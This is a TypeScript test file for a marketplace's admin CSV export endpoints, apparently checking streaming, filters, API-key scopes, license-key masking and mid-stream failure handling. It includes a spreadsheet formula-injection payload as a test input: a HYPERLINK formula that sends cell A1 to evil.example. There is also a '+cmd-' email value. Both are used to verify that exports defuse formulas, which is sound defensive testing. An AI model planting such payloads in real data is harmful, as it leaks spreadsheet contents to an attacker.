import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { FORMULA_TRIGGERS } from "../../../adapters/exports/csv.ts";
import {
  LICENSE_EXPORT_COLUMNS,
  ORDER_EXPORT_COLUMNS,
  PAYMENT_EXPORT_COLUMNS,
} from "../../../adapters/exports/export-columns.ts";
import { createPostgresExportReaders } from "../../../adapters/postgres/export-readers.ts";
import { createLogger } from "../../../kit/logger.ts";
import { createTestMarketplace } from "../../support/app.ts";
import { tokenFor } from "../../support/auth.ts";
import { aLicenseProduct } from "../../support/builders/products.ts";
import { parseCsv } from "../../support/csv.ts";
import { useTestDatabase } from "../../support/database.ts";
import { call, expectProblemShape } from "../../support/http.ts";

const db = useTestDatabase();
const ORDERS = 2500;
/** What the customer typed at registration: each starts a formula in a spreadsheet unless defused. */
const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
const HOSTILE_EMAIL = `+cmd-${crypto.randomUUID().slice(0, 8)}@example.com`;
const PRODUCT_NAME = '@Books, "Pro"';

const logLines: string[] = [];
let marketplace: ReturnType<typeof createTestMarketplace>;
let admin = "";
let customerId = "";
let productId = "";

const adminCall = (path: string, token = admin) => call(marketplace.app, "GET", path, { token });
const startsFormula = (cell: string) => FORMULA_TRIGGERS.some((trigger) => cell.startsWith(trigger));

/** The rows of a CSV answer, its header first; every line of it checked as RFC 4180. */
function recordsOf(answer: { body: unknown }): string[][] {
  expect(typeof answer.body).toBe("string");
  return parseCsv(answer.body as string);
}

beforeAll(async () => {
  marketplace = createTestMarketplace(
    db.current.sql,
    {},
    { logger: createLogger({ level: "info", destination: { write: (line: string) => void logLines.push(line) } }) },
  );
  admin = await tokenFor("admin");
  const registered = await call(marketplace.app, "POST", "/api/auth/register", {
    body: { email: HOSTILE_EMAIL, password: "buyer password", name: HOSTILE_NAME },
  });
  expect(registered.status).toBe(201);
  customerId = registered.body.user.id;
  const product = await call(marketplace.app, "POST", "/api/admin/products", {
    token: admin,
    body: aLicenseProduct({ name: PRODUCT_NAME }),
  });
  expect(product.status).toBe(201);
  productId = product.body.id;
  // Orders three to a millisecond, so that rows share the sort's time across page boundaries;
  // every fifth unpaid, gateways alternating, a payment for each paid one.
  await db.current.sql`
    with o as (
      insert into orders (customer_id, status, currency, subtotal, total, due_today, payment_gateway,
                          gateway_environment, metadata, created_at)
      select ${customerId}, case when g % 5 = 0 then 'pending_payment' else 'paid' end, 'USD', g, g, g,
             case when g % 2 = 0 then 'gateway_a' else 'gateway_b' end, 'sandbox', '{}',
             '2026-06-01T00:00:00Z'::timestamptz - (g / 3) * interval '1 millisecond'
      from generate_series(1, ${ORDERS}) g
      returning id, status, payment_gateway, total, created_at
    ), i as (
      insert into order_items (order_id, position, product_id, product_name, variant, payment_type, unit_price,
                               quantity, amount, due_today, delivery_model, fulfillment_driver, options)
      select id, 0, ${productId}, ${PRODUCT_NAME}, 'regular', 'one_time', total, 1, total, total,
             'license_download', 'license_download', '{}' from o
    )
    insert into payments (order_id, gateway, payment_id, amount, tax, currency, created_at)
    select id, payment_gateway, 'pay_' || id, total, total / 10, 'USD', created_at from o where status = 'paid'`;
});
afterAll(async () => {
  await marketplace.close();
});

describe("CSV exports", () => {
  test("orders.csv streams every order the filter matches, newest first, each line the order it names", async () => {
    const answer = await adminCall("/api/admin/exports/orders.csv?status=paid");
    expect(answer.status).toBe(200);
    expect(answer.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(answer.headers.get("content-disposition")).toMatch(/^attachment; filename="orders-[0-9-]+\.csv"$/);
    expect(answer.headers.get("cache-control")).toBe("no-store");
    expect(answer.body as string).toEndWith("\r\n");
    const [header, ...rows] = recordsOf(answer);
    expect(header).toEqual(ORDER_EXPORT_COLUMNS.map((column) => column.header));
    const expected = await db.current.sql<{ id: string; total: number; created_at: Date }[]>`
      select id, total, created_at from orders where status = 'paid'
      order by date_trunc('milliseconds', created_at) desc, id desc`;
    expect(rows).toHaveLength(expected.length);
    // Three pages of the reader's 1000 rows, the last one short.
    expect(rows).toHaveLength(2000);
    const at = (name: string) => ORDER_EXPORT_COLUMNS.findIndex((column) => column.header === name);
    rows.forEach((row, n) => {
      const order = expected[n];
      expect(row).toHaveLength(ORDER_EXPORT_COLUMNS.length);
      expect([row[at("id")], row[at("status")], row[at("total")], row[at("created_at")]]).toEqual([
        order?.id ?? "",
        "paid",
        String(order?.total),
        order?.created_at.toISOString() ?? "",
      ]);
      expect([row[at("customer_name")], row[at("customer_email")], row[at("products")]]).toEqual([
        `'${HOSTILE_NAME}`,
        `'${HOSTILE_EMAIL}`,
        `'${PRODUCT_NAME} (regular)`,
      ]);
    });
  });

  test("customer-controlled text cannot start a formula in any cell; money stays numeric", async () => {
    for (const path of ["orders.csv", "payments.csv", "licenses.csv"]) {
      const [, ...rows] = recordsOf(await adminCall(`/api/admin/exports/${path}`));
      for (const row of rows) for (const cell of row) expect(startsFormula(cell)).toBe(false);
    }
    const [header, ...payments] = recordsOf(await adminCall("/api/admin/exports/payments.csv"));
    for (const money of ["amount", "tax", "refunded_amount"]) {
      const index = header?.indexOf(money) ?? -1;
      for (const row of payments) expect(row[index]).toMatch(/^[0-9]+$/);
    }
  });

  test("payments.csv takes the order list's filters, applied to each payment's order", async () => {
    const [header, ...rows] = recordsOf(
      await adminCall("/api/admin/exports/payments.csv?payment_gateway=gateway_a&status=paid"),
    );
    expect(header).toEqual(PAYMENT_EXPORT_COLUMNS.map((column) => column.header));
    const expected = await db.current.sql<{ id: string; order_id: string; amount: number }[]>`
      select p.id, p.order_id, p.amount from payments p join orders o on o.id = p.order_id
      where o.status = 'paid' and o.payment_gateway = 'gateway_a'
      order by date_trunc('milliseconds', p.created_at) desc, p.id desc`;
    expect(expected.length).toBeGreaterThan(900);
    expect(rows.map((row) => [row[0], row[2], row[header?.indexOf("amount") ?? -1]])).toEqual(
      expected.map((payment) => [payment.id, payment.order_id, String(payment.amount)]),
    );
    const none = recordsOf(await adminCall("/api/admin/exports/payments.csv?status=pending_payment"));
    expect(none).toEqual([PAYMENT_EXPORT_COLUMNS.map((column) => column.header)]);
  });

  test("licenses.csv takes the license list's filters and shows each key only as its hint", async () => {
    const keys = [0, 1, 2].map((n) => `LIC-${n}-${crypto.randomUUID()}`);
    for (const key of keys) {
      await db.current.sql`
        with item as (
          select i.id, i.order_id from order_items i join orders o on o.id = i.order_id
          where o.status = 'paid' and not exists (select 1 from fulfillment_records f where f.order_item_id = i.id)
          limit 1
        ), record as (
          insert into fulfillment_records (order_id, order_item_id, product_id, customer_id, driver, status)
          select order_id, id, ${productId}, ${customerId}, 'license_download', 'active' from item returning id
        )
        insert into licenses (fulfillment_record_id, customer_id, product_id, license_type, license_key, max_activations, status)
        select id, ${customerId}, ${productId}, 'commercial', ${key}, 2, 'active' from record`;
    }
    const answer = await adminCall(
      `/api/admin/exports/licenses.csv?customer_email=${encodeURIComponent(HOSTILE_EMAIL)}`,
    );
    const [header, ...rows] = recordsOf(answer);
    expect(header).toEqual(LICENSE_EXPORT_COLUMNS.map((column) => column.header));
    expect(rows).toHaveLength(3);
    const hints = rows.map((row) => row[header?.indexOf("key_hint") ?? -1]).sort();
    expect(hints).toEqual(keys.map((key) => `…${key.slice(-12)}`).sort());
    for (const key of keys) expect(answer.body as string).not.toContain(key);
    const other = recordsOf(await adminCall("/api/admin/exports/licenses.csv?customer_email=nobody%40example.com"));
    expect(other).toHaveLength(1);
  });

  test("a bad filter is a 422 problem before any byte of CSV", async () => {
    for (const path of [
      "orders.csv?status=shipped",
      "payments.csv?needs_attention=maybe",
      "licenses.csv?product_id=not-a-uuid",
      "licenses.csv?customer_email=a%01b%40example.com",
    ]) {
      expectProblemShape(await adminCall(`/api/admin/exports/${path}`), 422, "VALIDATION_FAILED");
    }
  });

  test("an API key exports with the read scope of the list it mirrors, and gets 403 without it", async () => {
    const keyWith = async (scopes: string[]) => {
      const created = await call(marketplace.app, "POST", "/api/admin/api-keys", {
        token: admin,
        body: { name: `exports ${scopes.join(" ")}`, scopes },
      });
      expect(created.status).toBe(201);
      return created.body.secret as string;
    };
    const orders = await keyWith(["orders:read"]);
    const fulfillments = await keyWith(["fulfillments:read"]);
    expect((await adminCall("/api/admin/exports/orders.csv?payment_gateway=gateway_b", orders)).status).toBe(200);
    expect((await adminCall("/api/admin/exports/payments.csv", orders)).status).toBe(200);
    expectProblemShape(await adminCall("/api/admin/exports/licenses.csv", orders), 403, "API_KEY_SCOPE_MISSING");
    expect((await adminCall("/api/admin/exports/licenses.csv", fulfillments)).status).toBe(200);
    expectProblemShape(await adminCall("/api/admin/exports/orders.csv", fulfillments), 403, "API_KEY_SCOPE_MISSING");
    expectProblemShape(await adminCall("/api/admin/exports/payments.csv", fulfillments), 403, "API_KEY_SCOPE_MISSING");
    const customer = await tokenFor("customer");
    expectProblemShape(await adminCall("/api/admin/exports/orders.csv", customer), 403, "FORBIDDEN_ROLE");
  });
});

describe("a database failure after the first page", () => {
  test("cuts the transfer off, so the client never holds a file that looks complete, and is logged", async () => {
    const readers = createPostgresExportReaders(db.current.sql);
    const failing = createTestMarketplace(db.current.sql, {
      logger: createLogger({ level: "info", destination: { write: (line: string) => void logLines.push(line) } }),
      exportOrders: (filter, page) =>
        page.cursor ? Promise.reject(new Error("connection terminated unexpectedly")) : readers.orders(filter, page),
    });
    const server = Bun.serve({ port: 0, hostname: "127.0.0.1", fetch: (request) => failing.app.fetch(request) });
    try {
      const response = await fetch(`http://127.0.0.1:${server.port}/api/admin/exports/orders.csv`, {
        headers: { authorization: `Bearer ${admin}` },
      });
      expect(response.status).toBe(200);
      const reader = (response.body as ReadableStream<Uint8Array>).getReader();
      let received = "";
      const decoder = new TextDecoder();
      const outcome = await (async () => {
        for (;;) {
          const read = await reader.read();
          if (read.done) return "ended";
          received += decoder.decode(read.value, { stream: true });
        }
      })().catch((error: unknown) => error);
      // Whatever part of the first page got through, the reader ends in an error, not at an end.
      expect(outcome).toBeInstanceOf(Error);
      expect(received.split("\r\n").length).toBeLessThan(2000);
      const logged = logLines.find((line) => line.includes("CSV export failed mid-stream"));
      expect(logged).toBeDefined();
      expect(JSON.parse(logged ?? "{}")).toMatchObject({ level: "error", export: "orders", rows_written: 1000 });
    } finally {
      server.stop(true);
      await failing.close();
    }
  });
});
